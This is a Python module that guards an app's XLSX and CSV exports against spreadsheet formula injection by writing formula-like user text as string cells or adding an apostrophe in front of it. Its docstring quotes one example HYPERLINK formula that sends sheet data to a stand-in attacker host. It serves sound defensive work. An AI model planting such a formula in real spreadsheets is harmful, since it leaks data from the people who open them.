"""Cells that no spreadsheet evaluates: the one rule for every XLSX and CSV the app writes.

Text from users (agency names, units, measure titles, level texts) goes into files that
coordinators open in Excel or LibreOffice. A text beginning with ``=``, ``+``, ``-`` or ``@``
(also after leading spaces, or beginning with a tab or carriage return) is read there as a
formula, e.g. ``=HYPERLINK("https://evil.example/?c="&A2&B2,"…")`` sends the sheet's data away
on a click (OWASP "CSV injection").

- In XLSX, :func:`xlsx_row` writes such a text as a string cell (type ``s``, the text exactly
  as typed), which no spreadsheet evaluates; openpyxl alone would store it as a formula.
- In CSV, which has no cell types, :func:`inert` prefixes it with an apostrophe (OWASP).

Numbers, dates and empty cells are unchanged, so scores stay numbers. Every export writes its
rows through these functions (``coordination/export.py``; a new export must do the same).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

#: Characters that start a formula (or a DDE command) in Excel, LibreOffice and Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if text.startswith(FORMULA_STARTS):
        return True
    stripped = text.lstrip(" \u00a0\n")
    return stripped != text and stripped.startswith(FORMULA_STARTS)


def inert(value: object) -> object:
    """``value`` as a cell that is shown, never evaluated; non-text values are unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    """A row for a write-only openpyxl ``sheet``: formula-like texts as string cells."""
    row: list[object] = []
    for value in values:
        if isinstance(value, str) and is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
